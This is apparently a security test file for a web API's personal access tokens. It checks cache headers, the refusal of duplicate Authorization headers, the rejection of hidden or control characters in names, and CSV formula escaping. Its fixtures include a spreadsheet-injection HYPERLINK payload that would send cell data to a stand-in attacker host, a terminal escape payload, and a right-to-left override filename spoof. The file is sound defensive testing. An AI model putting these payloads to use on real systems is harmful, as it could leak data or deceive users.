import { AddressInfo } from 'node:net';
import { AuditWriter } from '../support/library-internals';
import { TestApp, TestUser } from '../support/test-app';
import { testDatabases } from '../support/test-database';
import { rawRequest } from '../hardening/support/hardening';
import { expectErrorShape } from '../support/assertions';
import { eventsOf, fakePageBuild, pageSignIn, sendRaw } from './support';

const TOKENS = '/user/me/personal-access-tokens';
const NO_STORE = { 'cache-control': 'no-store', pragma: 'no-cache' };
const SOME_ID = '0190a1b2-0000-7000-8000-000000000001';

interface Operation {
  security?: Record<string, string[]>[];
}

/** A request for any method over a real socket, with raw header lines (duplicates included). */
function rawCall(method: string, path: string, headerLines: string[]): string {
  const body = ['POST', 'PUT', 'PATCH'].includes(method) ? '{}' : '';
  const type = body ? 'Content-Type: application/json\r\n' : '';
  return (
    `${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n${type}Content-Length: ${body.length}\r\n` +
    headerLines.map((line) => `${line}\r\n`).join('') +
    `\r\n${body}`
  );
}

/**
 * What an attacker reads off the wire: caches told never to keep a secret answer, no route that
 * takes the first of two Authorization headers, names and descriptions that cannot hide text, and
 * the audit CSV that opens as text in a spreadsheet.
 */
describe.each(testDatabases())('exports and headers on $name', (database) => {
  let t: TestApp;
  let alice: TestUser;
  let port: number;
  const page = fakePageBuild();

  beforeAll(async () => {
    t = await TestApp.start(database, { page: { path: '/page', assetsDir: page.dir } });
    alice = await t.createUser('member');
    await t.app.listen(0, '127.0.0.1');
    port = (t.app.getHttpServer().address() as AddressInfo).port;
  });
  afterAll(async () => {
    await t.close();
    page.remove();
  });

  describe('no-store on every answer that carries a secret', () => {
    it('login', async () => {
      const response = await t.post('/auth/login', { email: alice.email, password: alice.password });
      expect(response.status).toBe(200);
      expect(response.headers).toMatchObject(NO_STORE);
    });

    it('create, rotate and regenerate', async () => {
      const created = await t.post(TOKENS, { name: 'cached?', scopes: ['user:read'], expiresIn: '30d' }, { token: alice.session });
      expect(created.status).toBe(201);
      expect(created.headers).toMatchObject(NO_STORE);
      const rotated = await t.patch(`${TOKENS}/${created.body.id}/rotate`, {}, { token: alice.session });
      expect(rotated.status).toBe(200);
      expect(rotated.headers).toMatchObject(NO_STORE);
      expect((await t.post(`${TOKENS}/${created.body.id}/revoke`, {}, { token: alice.session })).status).toBe(200);
      const regenerated = await t.post(`${TOKENS}/${created.body.id}/regenerate`, {}, { token: alice.session });
      expect(regenerated.status).toBe(200);
      expect(regenerated.headers).toMatchObject(NO_STORE);
    });

    it("the page's sign-in (Set-Cookie) and session (CSRF token)", async () => {
      const { response, cookie } = await pageSignIn(t, alice.email, alice.password);
      expect(response.status).toBe(200);
      expect(response.headers).toMatchObject(NO_STORE);
      const session = await t.get('/page/api/session', { headers: { cookie } });
      expect(session.status).toBe(200);
      expect(session.body.csrfToken).toEqual(expect.any(String));
      expect(session.headers).toMatchObject(NO_STORE);
    });

    it('introspection and the gateway check keep theirs', async () => {
      const pat = await t.mintToken(alice.session, { scopes: ['user:read'] });
      const verify = await t.get('/auth/verify', { token: pat.token });
      expect(verify.status).toBe(200);
      expect(verify.headers).toMatchObject(NO_STORE);
    });
  });

  describe('two Authorization headers are refused on every route', () => {
    it('every authenticated route in the OpenAPI document answers 400 invalid_request, before any handler', async () => {
      const pat = await t.mintToken(alice.session, {
        scopes: ['user:read', 'personal_access_tokens:read', 'personal_access_tokens:write'],
      });
      const document = (await t.get('/docs-json')).body as { paths: Record<string, Record<string, Operation>> };
      const answers: string[] = [];
      for (const [path, operations] of Object.entries(document.paths)) {
        for (const [method, operation] of Object.entries(operations)) {
          if (!operation.security?.length) continue;
          const url = path.replace(/\{[^}]+\}/g, SOME_ID);
          const response = await rawRequest(
            port,
            rawCall(method.toUpperCase(), url, [`Authorization: Bearer ${pat.token}`, `Authorization: Bearer ${alice.session}`]),
          );
          answers.push(`${method.toUpperCase()} ${path} ${response.status} ${JSON.parse(response.body).code}`);
        }
      }
      expect(answers.length).toBeGreaterThan(20);
      expect(answers.filter((answer) => !answer.endsWith(' 400 invalid_request'))).toEqual([]);
    });

    it.each([
      ['the good one first', (good: string) => [good, 'pat_' + 'Z'.repeat(38)]],
      ['the good one last', (good: string) => ['pat_' + 'Z'.repeat(38), good]],
      ['twice the good one', (good: string) => [good, good]],
    ])("GET /auth/verify (%s): invalid_request, never the first one's identity", async (_name, pair) => {
      const pat = await t.mintToken(alice.session, { scopes: ['user:read'] });
      const response = await rawRequest(
        port,
        rawCall(
          'GET',
          '/auth/verify',
          pair(pat.token).map((token) => `Authorization: Bearer ${token}`),
        ),
      );
      // 401, as for every malformed header at the gateway check: nginx's auth_request takes only 2xx, 401 and 403.
      expect(response.status).toBe(401);
      expect(JSON.parse(response.body).code).toBe('invalid_request');
      expect(response.head).toMatch(/www-authenticate: Bearer realm="[^"]+", error="invalid_request"/i);
      expect(response.head).not.toMatch(/x-user-id/i);
    });
  });

  describe('names and descriptions that hide or rewrite text', () => {
    it.each([
      ['a right-to-left override', 'invoice\u202eexe.pdf'],
      ['a zero-width space', 'ci\u200bdeploy'],
      ['a left-to-right isolate', 'ci\u2066deploy\u2069'],
      ['a zero-width joiner', 'ci\u200ddeploy'],
      ['a soft hyphen', 'ci\u00addeploy'],
      ['an Arabic letter mark', 'ci\u061cdeploy'],
      ['a NUL', 'ci\u0000deploy'],
      ['an ESC sequence', 'ci\u001b[31mdeploy'],
    ])('a name with %s: 400 naming the field, audited, nothing created', async (_what, name) => {
      const before = (await t.get(TOKENS, { token: alice.session })).body.total;
      const { response, requestId } = await sendRaw(t, 'POST', TOKENS, JSON.stringify({ name, scopes: ['user:read'] }), {
        token: alice.session,
      });
      expectErrorShape(response, 400);
      expect(response.body.details).toEqual([{ field: 'name', reason: expect.stringMatching(/^must not contain/) }]);
      expect(await eventsOf(t, requestId)).toEqual([expect.objectContaining({ statusCode: 400, action: 'personal_access_token.create' })]);
      expect((await t.get(TOKENS, { token: alice.session })).body.total).toBe(before);
    });

    it('renaming to a look-alike is refused too', async () => {
      const pat = await t.mintToken(alice.session, { name: 'deploy' });
      const response = await t.patch(`${TOKENS}/${pat.id}`, { name: 'dep\u200bloy' }, { token: alice.session });
      expectErrorShape(response, 400);
      expect(response.body.details[0].field).toBe('name');
      expect((await t.get(`${TOKENS}/${pat.id}`, { token: alice.session })).body.name).toBe('deploy');
    });

    it.each([
      ['a NUL', 'a\u0000b'],
      ['an ESC sequence that clears the screen', 'ok\u001b[2J\u001b[Hpwned'],
      ['a bare carriage return', 'shown\rhidden'],
      ['a C1 control', 'a\u009bb'],
      ['a DEL', 'a\u007fb'],
    ])('a description with %s: 400 naming the field, on create and update', async (_what, description) => {
      const created = await t.post(TOKENS, { name: `d-${Date.now()}`, description, scopes: [] }, { token: alice.session });
      expectErrorShape(created, 400);
      expect(created.body.details).toEqual([{ field: 'description', reason: expect.stringContaining('control characters') }]);
      const pat = await t.mintToken(alice.session, { description: 'before' });
      const updated = await t.patch(`${TOKENS}/${pat.id}`, { description }, { token: alice.session });
      expectErrorShape(updated, 400);
      expect(updated.body.details[0].field).toBe('description');
    });

    it('what people write is still accepted: accents, emoji, scripts, and newlines and tabs in descriptions', async () => {
      const created = await t.post(
        TOKENS,
        { name: 'déploiement 🚀 日本語 עברית', description: 'Line 1\nLine 2\twith a tab', scopes: [] },
        { token: alice.session },
      );
      expect(created.status).toBe(201);
      expect(created.body).toMatchObject({ name: 'déploiement 🚀 日本語 עברית', description: 'Line 1\nLine 2\twith a tab' });
    });

    it('the OpenAPI document states the same rules with explicit ranges (no \\p{…}), and they agree with the server', async () => {
      const document = (await t.get('/docs-json')).body as { components: { schemas: Record<string, { properties: Record<string, any> }> } };
      const create = document.components.schemas.CreateTokenDto.properties;
      for (const field of ['name', 'description']) {
        const pattern = create[field].pattern as string;
        expect(pattern).not.toMatch(/\\p\{/);
        const plain = new RegExp(pattern);
        expect(plain.test(field === 'name' ? 'a\u202eb' : 'a\u001bb')).toBe(false);
        expect(plain.test('ordinary text')).toBe(true);
      }
    });
  });

  describe('CSV exports open as text in a spreadsheet', () => {
    it('the audit CSV writes a formula-shaped token name with a leading quote', async () => {
      const hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")';
      const pat = await t.mintToken(alice.session, { name: hostile, scopes: ['audit:read'] });
      // The token name column of an event made with it.
      expect((await t.get('/user/me/audit-events', { token: pat.token })).status).toBe(200);
      await t.app.get(AuditWriter).flush();
      const csv = await t.get(`/user/me/audit-events?format=csv&tokenId=${pat.id}`, { token: pat.token });
      expect(csv.status).toBe(200);
      expect(String(csv.body)).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
      expect(String(csv.body)).not.toMatch(/(^|,)"?=HYPERLINK/m);
    });
  });
});
